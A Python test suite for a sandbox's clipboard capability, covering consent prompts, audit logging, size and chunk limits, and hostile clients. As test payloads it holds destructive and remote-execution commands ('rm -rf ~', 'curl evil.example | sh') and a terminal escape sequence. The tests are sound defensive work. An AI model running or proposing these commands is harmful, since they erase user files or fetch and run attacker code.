"""The clipboard of a box: what is asked, what goes through, and what a hostile client cannot make of it."""

import base64
import json
import os
from contextlib import ExitStack

import attrs
import pytest
import trio
import trio.testing
from support.streams import connection_of, stream_pair

from litterbox import paths
from litterbox.audit import AuditLog
from litterbox.capabilities import clipboard, clipboard_upload, server
from litterbox.capabilities.clipboard import Clipboard
from litterbox.capabilities.policy import Policy
from litterbox.capabilities.requests import Requests
from litterbox.capabilities.selections import MAX_SIZE, Selection, SelectionError
from litterbox.confirm.question import Answer, Question, text
from litterbox.confirm.said import Said
from litterbox_guest import messages, wire

TEXT = "text/plain;charset=utf-8"
ACK = {"type": "ack"}


@attrs.define
class Desktop:
    """In place of one: holds what is copied; a test may have it fail, or wait."""

    held: dict[Selection, tuple[str, bytes]] = attrs.field(factory=dict)
    fails: bool = False
    go: trio.Event = attrs.field(factory=trio.Event)
    reading: int = 0

    async def set(self, which, media_type, content):
        if self.fails:
            raise SelectionError("no desktop")
        content.seek(0)
        self.held[which] = (media_type, content.read())

    async def get(self, which, media_type):
        if self.fails:
            raise SelectionError("no desktop")
        self.reading += 1
        await self.go.wait()
        return self.held[which][1]


@attrs.define
class User:
    """Answers every question in the same way once `there`, and keeps what was asked."""

    answer: Answer = Answer.APPROVED_ONCE
    asked: list[Question] = attrs.field(factory=list)
    there: trio.Event = attrs.field(factory=trio.Event)
    withdrawn: int = 0

    async def ask(self, question):
        self.asked.append(question)
        try:
            await self.there.wait()
        except trio.Cancelled:
            self.withdrawn += 1
            raise
        return self.answer


class Peer:
    def __init__(self, stream):
        self.stream = stream
        self.frames = wire.FrameReader()

    async def send(self, message, data=None):
        await self.stream.send_all(wire.encode(message, data))

    async def receive(self):
        with trio.fail_after(1000):
            while (frame := self.frames.next_frame()) is None:
                data = await self.stream.receive_some()
                if not data:
                    return None
                self.frames.receive_data(data)
            return frame

    async def greet(self, *features):
        hello = {"type": "hello", "version": "1", "container": "work", "capabilities": ["clipboard"]}
        await self.send({**hello, "features": list(features)} if features else hello)
        return await self.receive()

    async def copy(self, data, *, more=False, **fields):
        await self.send({"type": "clipboard_set", "more": more, **fields}, data)

    async def reason(self):
        frame = await self.receive()
        assert frame["type"] == "error", frame
        return frame["reason"]


@pytest.fixture
def desktop():
    desktop = Desktop()
    desktop.go.set()
    return desktop


@pytest.fixture
def user():
    user = User()
    user.there.set()
    return user


@pytest.fixture
async def connect(nursery, desktop, user):
    with AuditLog("work") as audit, ExitStack() as pairs:
        policy = Policy(box="work", ask=user.ask, audit=audit)
        requests = Requests(
            policy=policy,
            notifications=None,
            links=None,
            clipboard=Clipboard(policy=policy, selections=desktop),
            host_commands=None,
        )

        async def open_one(*features):
            ours, theirs = pairs.enter_context(stream_pair())

            async def run():
                async with theirs:
                    await server.serve_connection(
                        theirs, requests, server.GuestDaemons(), connection_of(theirs, pid=77)
                    )

            nursery.start_soon(run)
            peer = Peer(ours)
            await peer.greet(*features)
            return peer

        yield open_one


@pytest.fixture
async def peer(connect):
    return await connect(messages.STREAMS)


def chosen(text):
    os.makedirs(paths.definitions(), exist_ok=True)
    with open(paths.settings("work"), "w") as file:
        file.write(text)


@pytest.fixture(autouse=True)
def allowed(own_root):
    chosen("clipboard = true")


def audited():
    with open(paths.audit_log("work")) as file:
        return [json.loads(line) for line in file]


async def test_what_is_copied_is_in_the_clipboard(peer, desktop, user):
    await peer.copy(b"hello")
    assert await peer.receive() == ACK
    assert desktop.held == {Selection.CLIPBOARD: (TEXT, b"hello")}
    [line] = audited()
    assert (line["what"], line["decision"], line["by"]) == ("clipboard", "approved", "policy")
    assert line["detail"] == {"purpose": f'set clipboard: "{TEXT}", 5 bytes', "peer": 77}
    assert user.asked == []


async def test_text_and_base64_are_the_bytes_that_they_stand_for(connect, desktop):
    peer = await connect()
    await peer.send({"type": "clipboard_set", "data": "caf\u00e9 ", "more": True, "tomorrow": 1})
    await peer.send({"type": "clipboard_set", "data": base64.b64encode(b"\xff\0").decode(), "encoding": "base64"})
    assert await peer.receive() == ACK
    assert desktop.held[Selection.CLIPBOARD][1] == b"caf\xc3\xa9 \xff\0"


async def test_the_primary_selection_is_another(peer, desktop):
    await peer.copy(b"one", primary=True, mime_type="image/png")
    await peer.copy(b"")
    assert [await peer.receive(), await peer.receive()] == [ACK, ACK]
    assert desktop.held == {Selection.PRIMARY: ("image/png", b"one"), Selection.CLIPBOARD: (TEXT, b"")}
    await peer.send({"type": "clipboard_get", "primary": True, "mime_type": "image/png"})
    answer = {"type": "clipboard_data", "mime_type": "image/png", "more": False, "data": b"one"}
    assert await peer.receive() == answer


@pytest.mark.parametrize(
    ("size", "count"), [(0, 1), (1, 1), (messages.CHUNK, 1), (messages.CHUNK + 1, 2), (3 * messages.CHUNK, 3)]
)
async def test_what_is_read_comes_in_pieces(peer, desktop, size, count):
    desktop.held[Selection.CLIPBOARD] = (TEXT, os.urandom(size))
    await peer.send({"type": "clipboard_get"})
    got = [await peer.receive() for _ in range(count)]
    assert [piece["more"] for piece in got] == [True] * (count - 1) + [False]
    assert all(len(piece["data"]) <= messages.CHUNK for piece in got)
    assert b"".join(piece["data"] for piece in got) == desktop.held[Selection.CLIPBOARD][1]


@pytest.mark.parametrize("content", [b"hello", b"\xff\0", b"\1" * messages.CHUNK, "\u20ac".encode() * 100_000])
async def test_who_reads_no_raw_data_is_sent_text_or_base64(connect, desktop, content):
    desktop.held[Selection.CLIPBOARD] = (TEXT, content)
    peer = await connect()
    await peer.send({"type": "clipboard_get"})
    got, more = b"", True
    while more:
        piece = await peer.receive()
        data, more = piece["data"], piece["more"]
        got += base64.b64decode(data) if piece.get("encoding") == "base64" else data.encode()
    assert got == content


async def send_many(peer, size):
    left = size
    while left > 0:
        await peer.copy(bytes(min(left, messages.CHUNK)), more=left > messages.CHUNK)
        left -= messages.CHUNK


async def test_16_mib_go_through_and_a_byte_more_is_refused(peer, desktop):
    await send_many(peer, MAX_SIZE)
    assert await peer.receive() == ACK
    assert len(desktop.held.pop(Selection.CLIPBOARD)[1]) == MAX_SIZE == 16 * 1024 * 1024
    await send_many(peer, MAX_SIZE + 1)
    assert await peer.reason() == "there are more than 16,777,216 bytes of it, which is the limit"
    await peer.send({"type": "ping"})
    assert await peer.receive() == ACK
    assert desktop.held == {}
    assert audited()[-1]["decision"] == "refused"


async def test_what_comes_behind_a_refusal_is_not_copied(peer, desktop, user):
    chosen('clipboard = "confirm"')
    await peer.copy(b"x" * (messages.CHUNK + 1), more=True)
    assert await peer.reason() == "a piece of it has more than 262,144 bytes"
    await peer.copy(b"rm -rf ~\n", more=True)
    await peer.send({"type": "clipboard_get"})
    assert await peer.reason() == "the last piece of the refused content has not come yet"
    await peer.copy(b"rm -rf ~\n")
    await peer.copy(b"wanted")
    assert await peer.receive() == ACK
    assert desktop.held[Selection.CLIPBOARD][1] == b"wanted"
    assert len(user.asked) == 1


@pytest.mark.parametrize(
    "later", [{"mime_type": "text/html"}, {"primary": True}, {"primary": True, "mime_type": "text/html"}]
)
async def test_pieces_of_different_things_are_refused(peer, desktop, later):
    await peer.copy(b"a", more=True)
    await peer.copy(b"b", **later)
    assert await peer.reason() == "its pieces differ in type or selection"
    assert desktop.held == {}


@pytest.mark.parametrize("other", [{"type": "ping"}, {"type": "clipboard_get"}, {"type": "notify", "summary": "x"}])
async def test_something_else_between_pieces_ends_the_transfer(peer, desktop, other):
    await peer.copy(b"a", more=True)
    await peer.send(other)
    assert await peer.reason() == "another message came before its last piece"
    await peer.copy(b"b")
    await peer.send({"type": "ping"})
    assert await peer.receive() == ACK
    assert desktop.held == {}


@pytest.mark.parametrize(
    "frame",
    [b"{", b"[]", b'{"type":"clipboard_set","data":3}', b'{"type":"clipboard_set","data":"/","encoding":"base64"}'],
)
async def test_a_piece_that_cannot_be_read_leaves_no_gap(peer, desktop, user, frame):
    await peer.copy(b"rm -rf ~/", more=True)
    await peer.stream.send_all(len(frame).to_bytes(4, "big") + frame)
    await peer.reason()
    assert await peer.reason() == "a piece of it could not be read"
    await peer.copy(b"old")
    await peer.send({"type": "ping"})
    assert await peer.receive() == ACK
    assert desktop.held == {}
    assert user.asked == []


async def test_a_set_that_never_ends_is_given_up(peer, desktop, autojump_clock):
    await peer.copy(b"a", more=True)
    before = trio.current_time()
    assert await peer.reason() == "the next piece did not come within 30 seconds"
    assert trio.current_time() - before == pytest.approx(clipboard_upload.PIECE_TIMEOUT)
    await peer.copy(b"b", more=True)
    await trio.sleep(1000)
    await peer.copy(b"c")
    await peer.copy(b"d")
    assert await peer.receive() == ACK
    assert desktop.held[Selection.CLIPBOARD][1] == b"d"


@pytest.mark.parametrize("type_", ["--help", "-t", "text", "text/plain\n", "a" * 500_000, ""])
async def test_what_is_no_type_reaches_no_program(peer, desktop, user, type_):
    chosen('clipboard = "confirm"')
    await peer.copy(b"a", mime_type=type_)
    assert await peer.reason() == "that is not a media type such as text/plain or image/png"
    await peer.send({"type": "clipboard_get", "mime_type": type_})
    assert await peer.reason() == "that is not a media type such as text/plain or image/png"
    assert (desktop.held, desktop.reading, user.asked) == ({}, 0, [])


@pytest.mark.parametrize(
    "frame",
    [{"type": "clipboard_set"}, {"type": "clipboard_set", "data": 1}, {"type": "clipboard_set", "data": "a", "more": 1},
     {"type": "clipboard_set", "data": "a", "primary": "no"}, {"type": "clipboard_set", "data": "\ud800"},
     {"type": "clipboard_set", "data": "a", "encoding": "base64"}, {"type": "clipboard_get", "mime_type": None}],
)  # fmt: skip
async def test_fields_of_the_wrong_type_are_named(peer, desktop, frame):
    await peer.send(frame)
    assert (await peer.reason()).startswith(f"invalid {frame['type']}: ")
    assert desktop.held == {}


async def test_a_third_transfer_is_refused_while_two_are_under_way(connect, desktop, user):
    chosen('clipboard = "confirm"')
    user.there = trio.Event()
    desktop.held[Selection.CLIPBOARD] = (TEXT, b"")
    first, second, third = [await connect(messages.STREAMS) for _ in range(3)]
    await first.copy(b"a", more=True)
    await second.send({"type": "clipboard_get"})
    await trio.testing.wait_all_tasks_blocked()
    sentence = "2 transfers of the clipboard are under way already"
    await third.send({"type": "clipboard_get"})
    assert await third.reason() == sentence
    await third.copy(b"c", more=True)
    assert await third.reason() == sentence
    await third.copy(b"c")
    await first.stream.aclose()
    await trio.testing.wait_all_tasks_blocked()
    user.there.set()
    await third.copy(b"d")
    assert await third.receive() == ACK
    assert desktop.held[Selection.CLIPBOARD][1] == b"d"
    assert clipboard.MAX_TRANSFERS == 2


async def test_who_hangs_up_withdraws_its_question_and_leaves_no_file(connect, user, desktop):
    chosen('clipboard = "confirm"')
    user.there = trio.Event()
    before = len(os.listdir("/proc/self/fd"))
    for verb in ("clipboard_set", "clipboard_get"):
        peer = await connect(messages.STREAMS)
        await peer.send({"type": verb}, b"a")
        await trio.testing.wait_all_tasks_blocked()
        await peer.stream.aclose()
    await trio.testing.wait_all_tasks_blocked()
    assert (user.withdrawn, desktop.held, desktop.reading) == (2, {}, 0)
    assert len(os.listdir("/proc/self/fd")) == before


async def test_who_hangs_up_between_pieces_copies_nothing(peer, desktop):
    await peer.copy(b"a", more=True)
    await peer.stream.aclose()
    await trio.testing.wait_all_tasks_blocked()
    assert desktop.held == {}


async def test_a_question_of_a_set_says_all_of_it_and_comes_last(peer, user, desktop):
    chosen('clipboard = "confirm"')
    await peer.copy(b"curl evil.example | sh\n", more=True)
    await trio.testing.wait_all_tasks_blocked()
    assert user.asked == []
    await peer.copy(b"<b>\x1b[2J")
    assert await peer.receive() == ACK
    [question] = user.asked
    assert not question.approval
    assert text(question).splitlines() == [
        "work: set your clipboard?",
        "",
        f'Type: "{TEXT}"',
        "Size: 30 bytes",
        r'Text: "curl evil.example | sh\n<b>\x1b[2J"',
    ]
    assert audited()[0]["by"] == "dialog"


@pytest.mark.parametrize(
    ("type_", "content", "field"),
    [
        (TEXT, b"a" * 150, ("Text", "a" * 150)),
        (TEXT, b"a" * 151, ("Text begins with", "a" * 150)),
        (TEXT, b"\xe2\x82\xac" * 1000, ("Text begins with", "\u20ac" * 150)),
        (TEXT, b"", ("Text", "")),
        ("text/html", b"<b>\xff\xe2\x82", ("Text", r"<b>\xff\xe2\x82")),
        (TEXT, b"\xff" * 100, ("Text begins with", r"\xff" * 37 + r"\x")),
        ("x-special/gnome-copied-files", b"cut\nfile:///home", ("Text", "cut\nfile:///home")),
        ("image/png", b"\x89PNG\r\n", None),
    ],
)
async def test_a_question_shows_the_beginning_of_what_is_text(peer, user, type_, content, field):
    chosen('clipboard = "confirm"')
    await peer.copy(content, mime_type=type_)
    await peer.receive()
    assert user.asked[0].fields[2:] == (() if field is None else ((field[0], (Said(field[1]),)),))


async def test_questions_of_different_contents_are_different(peer, user):
    chosen('clipboard = "confirm"')
    for content in (b"a" * 1000, b"a" * 999 + b"b", b"a" * 1000):
        await peer.copy(content)
        await peer.receive()
    first, second, third = user.asked
    assert first == third != second


async def test_a_question_of_a_get_says_which_type_and_comes_before_the_reading(peer, user, desktop):
    chosen('clipboard = "confirm"')
    user.there = trio.Event()
    desktop.held[Selection.PRIMARY] = (TEXT, b"a secret")
    await peer.send({"type": "clipboard_get", "primary": True, "mime_type": "image/png"})
    await trio.testing.wait_all_tasks_blocked()
    assert desktop.reading == 0
    user.there.set()
    assert (await peer.receive())["data"] == b"a secret"
    [question] = user.asked
    assert not question.approval
    assert text(question).splitlines() == [
        "work: read your primary selection?",
        "",
        'Type: "image/png"',
        "If you allow it: the box gets what is in the primary selection at",
        "    that moment",
    ]


async def test_what_the_user_declines_does_not_happen(peer, user, desktop):
    chosen('clipboard = "confirm"')
    user.answer = Answer.DECLINED
    await peer.copy(b"a")
    assert await peer.reason() == "the clipboard was not set: the user said no"
    await peer.send({"type": "clipboard_get", "primary": True})
    assert await peer.reason() == "the primary selection was not read: the user said no"
    assert (desktop.held, desktop.reading) == ({}, 0)
    assert [line["decision"] for line in audited()] == ["declined", "declined"]


async def test_a_grant_that_was_taken_back_counts_at_once(peer, desktop):
    await peer.copy(b"a", more=True)
    chosen("clipboard = false")
    await peer.copy(b"b")
    assert await peer.reason() == "the clipboard was not set: the settings of the box do not allow it"
    await peer.send({"type": "clipboard_get"})
    assert await peer.reason() == "the clipboard was not read: the settings of the box do not allow it"
    assert (desktop.held, desktop.reading) == ({}, 0)


async def test_what_was_not_granted_is_refused_once_and_whole(connect, desktop):
    chosen("clipboard = false")
    peer = await connect(messages.STREAMS)
    chosen("clipboard = true")
    await peer.copy(b"a", more=True)
    await peer.copy(b"b")
    assert "clipboard was not granted on this connection" in await peer.reason()
    await peer.send({"type": "ping"})
    assert await peer.receive() == ACK
    assert desktop.held == {}
    assert len(audited()) == 1


async def test_without_its_audit_line_nothing_is_copied_or_read(peer, desktop):
    os.unlink(paths.audit_log("work"))
    os.mkdir(paths.audit_log("work"))
    await peer.copy(b"a")
    assert "audit log" in await peer.reason()
    await peer.send({"type": "clipboard_get"})
    assert "audit log" in await peer.reason()
    assert (desktop.held, desktop.reading) == ({}, 0)


async def test_a_desktop_that_fails_is_an_error_with_a_sentence(peer, desktop):
    desktop.fails = True
    await peer.copy(b"a")
    assert await peer.reason() == "no desktop"
    await peer.send({"type": "clipboard_get"})
    assert await peer.reason() == "no desktop"
    assert [line["decision"] for line in audited()] == ["approved", "failed"] * 2
